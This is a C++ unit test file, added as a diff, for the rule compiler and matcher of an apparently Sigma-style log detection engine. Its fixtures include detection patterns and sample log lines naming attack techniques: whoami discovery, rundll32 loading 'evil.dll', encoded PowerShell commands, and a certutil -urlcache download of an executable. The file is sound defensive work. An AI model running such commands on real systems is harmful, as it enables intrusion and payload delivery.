@@ -1,0 +1,191 @@
+// Compiler + matcher over hand-built rules (independent of the YAML loader), so each matching
+// semantic and each prefilter path is pinned on its own.
+#include "rules/matcher.h"
+
+#include <gtest/gtest.h>
+
+#include "core/record_reader.h"
+#include "rules/compiler.h"
+
+namespace vigil::rules {
+namespace {
+
+Predicate P(std::string field, MatchOp op, std::string value, bool cased = false) {
+  Predicate p;
+  p.field = std::move(field);
+  p.op = op;
+  p.value = std::move(value);
+  p.cased = cased;
+  return p;
+}
+
+CondNode Leaf(std::uint32_t i) {
+  CondNode n;
+  n.kind = CondNode::Kind::kPred;
+  n.pred = i;
+  return n;
+}
+CondNode Node(CondNode::Kind kind, std::vector<CondNode> kids) {
+  CondNode n;
+  n.kind = kind;
+  n.children = std::move(kids);
+  return n;
+}
+
+SigmaRule MakeRule(std::string id, std::vector<Predicate> preds, CondNode cond) {
+  SigmaRule r;
+  r.id = std::move(id);
+  r.title = r.id;
+  r.level = "high";
+  r.predicates = std::move(preds);
+  r.condition = std::move(cond);
+  return r;
+}
+
+// A rule that is true when all predicates hold.
+SigmaRule AllOf(std::string id, std::vector<Predicate> preds) {
+  std::vector<CondNode> kids;
+  for (std::uint32_t i = 0; i < preds.size(); ++i) kids.push_back(Leaf(i));
+  return MakeRule(std::move(id), std::move(preds),
+                  kids.size() == 1 ? kids[0] : Node(CondNode::Kind::kAnd, std::move(kids)));
+}
+
+class MatcherTest : public ::testing::Test {
+ protected:
+  void Compile(std::vector<SigmaRule> rules) {
+    auto rs = RuleSet::compile(std::move(rules), CompileOptions{}, &report_);
+    ASSERT_TRUE(rs.has_value()) << rs.error().to_string();
+    ruleset_ = *rs;
+    auto m = Matcher::create(ruleset_);
+    ASSERT_TRUE(m.has_value());
+    matcher_ = std::move(*m);
+  }
+
+  // Ids of the rules that match `record` (padded as the record readers do).
+  std::vector<std::string> Match(const std::string& record, LogFormat format = LogFormat::kUnknown) {
+    buffer_ = record + std::string(kRecordPadding, '\0');
+    Event event;
+    event.raw = std::string_view(buffer_.data(), record.size());
+    std::vector<RuleMatch> out;
+    matcher_->match(event, parser_, format, out);
+    std::vector<std::string> ids;
+    for (const RuleMatch& m : out) {
+      ids.push_back(ruleset_->rule(m.rule).id);
+      last_matched_ = m.matched;
+    }
+    return ids;
+  }
+
+  using Ids = std::vector<std::string>;
+  CompileReport report_;
+  std::shared_ptr<const RuleSet> ruleset_;
+  std::unique_ptr<Matcher> matcher_;
+  parse::RecordParser parser_;
+  std::string buffer_;
+  std::vector<MatchedField> last_matched_;
+};
+
+TEST_F(MatcherTest, StringOperatorsAreCaseInsensitiveUnlessCased) {
+  Compile({AllOf("eq", {P("Image", MatchOp::kEquals, "C:\\Windows\\System32\\cmd.exe")}),
+           AllOf("ends", {P("Image", MatchOp::kEndsWith, "\\CMD.EXE")}),
+           AllOf("starts", {P("Image", MatchOp::kStartsWith, "c:\\windows\\")}),
+           AllOf("has", {P("CommandLine", MatchOp::kContains, "WHOAMI")}),
+           AllOf("cased", {P("CommandLine", MatchOp::kContains, "WHOAMI", true)})});
+  EXPECT_EQ(Match(R"({"Image":"c:\\windows\\system32\\CMD.exe","CommandLine":"cmd /c whoami /all"})"),
+            (Ids{"eq", "ends", "starts", "has"}));
+  EXPECT_EQ(Match(R"({"Image":"C:\\Tools\\cmd.exe.bak","CommandLine":"WHOAMI"})"),
+            (Ids{"has", "cased"}));
+  // The value must be in the named field, not just anywhere in the event.
+  EXPECT_EQ(Match(R"({"Image":"x","Other":"whoami"})"), Ids{});
+}
+
+TEST_F(MatcherTest, AndOrNotAndAlwaysEvaluatedRules) {
+  // sel and not filter: the filter's literal absent means "not filter" is true.
+  Compile({MakeRule("selnotfilter",
+                    {P("Image", MatchOp::kEndsWith, "\\rundll32.exe"),
+                     P("CommandLine", MatchOp::kContains, "shell32.dll")},
+                    Node(CondNode::Kind::kAnd,
+                         {Leaf(0), Node(CondNode::Kind::kNot, {Leaf(1)})})),
+           // Only a negation: no literal cover, so evaluated for every event.
+           MakeRule("onlynot", {P("User", MatchOp::kContains, "system")},
+                    Node(CondNode::Kind::kNot, {Leaf(0)}))});
+  EXPECT_EQ(report_.always_evaluated, 1u);
+  EXPECT_EQ(Match(R"({"Image":"C:\\x\\rundll32.exe","CommandLine":"evil.dll,Run","User":"bob"})"),
+            (Ids{"selnotfilter", "onlynot"}));
+  EXPECT_EQ(Match(R"({"Image":"C:\\x\\rundll32.exe","CommandLine":"shell32.dll,Control","User":"NT AUTHORITY\\SYSTEM"})"),
+            Ids{});
+}
+
+TEST_F(MatcherTest, JsonEscapesCannotHideALiteral) {
+  Compile({AllOf("enc", {P("CommandLine", MatchOp::kContains, "-encodedcommand")})});
+  EXPECT_EQ(Match(R"({"CommandLine":"powershell -EncodedCommand SQBFAFgA"})"), Ids{"enc"});
+  // "\u002d" is '-': the raw bytes do not hold the literal; the decoded rescan must find it.
+  EXPECT_EQ(Match(R"({"CommandLine":"powershell \u002dEncodedCommand SQBFAFgA"})"), Ids{"enc"});
+  EXPECT_EQ(Match(R"({"CommandLine":"powershell -Command Get-Date"})"), Ids{});
+  EXPECT_EQ(matcher_->stats().decoded_rescans, 1u);
+}
+
+TEST_F(MatcherTest, BackslashesAndQuotesInJsonValues) {
+  Compile({AllOf("path", {P("TargetFilename", MatchOp::kContains, "\\AppData\\Local\\Temp\\\"x\"")})});
+  EXPECT_EQ(Match(R"({"TargetFilename":"C:\\Users\\a\\AppData\\Local\\Temp\\\"x\".dll"})"),
+            Ids{"path"});
+}
+
+TEST_F(MatcherTest, RegexExactPrefilterAndKeyword) {
+  Predicate re1 = P("CommandLine", MatchOp::kRegex, "\\s-e(nc?|ncodedcommand)?\\s+[A-Za-z0-9+/=]{8,}");
+  re1.regex_i = true;
+  Predicate backref = P("CommandLine", MatchOp::kRegex, "(\\w{3})-\\1");  // Hyperscan has no backrefs
+  backref.cased = true;
+  Predicate kw = P("", MatchOp::kContains, "failed password");
+  Compile({AllOf("re", {re1}), AllOf("backref", {backref}), AllOf("keyword", {kw})});
+  EXPECT_EQ(report_.regex_predicates, 2u);
+  EXPECT_GE(report_.regex_hyperscan_prefilter + report_.regex_pcre_only, 1u);
+  EXPECT_EQ(Match(R"({"CommandLine":"powershell.exe -e SQBFAFgAKABOAGUA"})"), Ids{"re"});
+  EXPECT_EQ(Match(R"({"CommandLine":"abc-abc"})"), Ids{"backref"});
+  EXPECT_EQ(Match(R"({"CommandLine":"abc-abd"})"), Ids{});
+  EXPECT_EQ(Match("Nov 25 10:00:00 web01 sshd[12]: Failed password for root from 198.51.100.9 port 22 ssh2"),
+            Ids{"keyword"});
+}
+
+TEST_F(MatcherTest, NumericCidrNullExistsFieldref) {
+  Predicate gt = P("sc-bytes", MatchOp::kGt, "");
+  gt.number = 1000000;
+  Predicate exists = P("cs-referer", MatchOp::kExists, "");
+  exists.exists_expected = false;
+  Compile({AllOf("big", {gt}), AllOf("internal", {P("c-ip", MatchOp::kCidr, "10.0.0.0/8")}),
+           AllOf("nouser", {P("cs-username", MatchOp::kNull, ""), P("cs-method", MatchOp::kEquals, "POST")}),
+           AllOf("noreferer", {exists, P("cs-method", MatchOp::kEquals, "PUT")}),
+           AllOf("sameuser", {P("SubjectUserName", MatchOp::kFieldRefEquals, "TargetUserName")})});
+  EXPECT_EQ(Match(R"(10.1.2.3 - - [25/Nov/2026:10:00:00 +0700] "POST /up HTTP/1.1" 200 2000000 "-" "curl/8")"),
+            (Ids{"big", "internal", "nouser"}));
+  EXPECT_EQ(Match(R"(203.0.113.9 - bob [25/Nov/2026:10:00:00 +0700] "POST /up HTTP/1.1" 200 20 "-" "curl/8")"),
+            Ids{});
+  EXPECT_EQ(Match(R"({"SubjectUserName":"Alice","TargetUserName":"alice"})"), Ids{"sameuser"});
+  EXPECT_EQ(Match(R"({"SubjectUserName":"Alice","TargetUserName":"bob"})"), Ids{});
+}
+
+TEST_F(MatcherTest, MatchedFieldsAreReported) {
+  Compile({AllOf("r", {P("Image", MatchOp::kEndsWith, "\\certutil.exe"),
+                       P("CommandLine", MatchOp::kContains, "urlcache")})});
+  EXPECT_EQ(Match(R"({"Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://x/a.exe"})"),
+            Ids{"r"});
+  ASSERT_EQ(last_matched_.size(), 2u);
+  EXPECT_EQ(last_matched_[0].field, "Image");
+  EXPECT_EQ(last_matched_[1].field, "CommandLine");
+  EXPECT_EQ(last_matched_[1].value, "certutil -urlcache -f http://x/a.exe");
+}
+
+TEST_F(MatcherTest, BadRecordsAreReportedNotMatched) {
+  Compile({AllOf("k", {P("", MatchOp::kContains, "needle")})});
+  std::string rec = R"({"a":"needle")";  // truncated
+  buffer_ = rec + std::string(kRecordPadding, '\0');
+  Event event;
+  event.raw = std::string_view(buffer_.data(), rec.size());
+  std::vector<RuleMatch> out;
+  EXPECT_FALSE(matcher_->match(event, parser_, LogFormat::kUnknown, out));
+  EXPECT_TRUE(out.empty());
+  EXPECT_EQ(event.parse_error, ParseErrorKind::kTruncatedJson);
+}
+
+}  // namespace
+}  // namespace vigil::rules
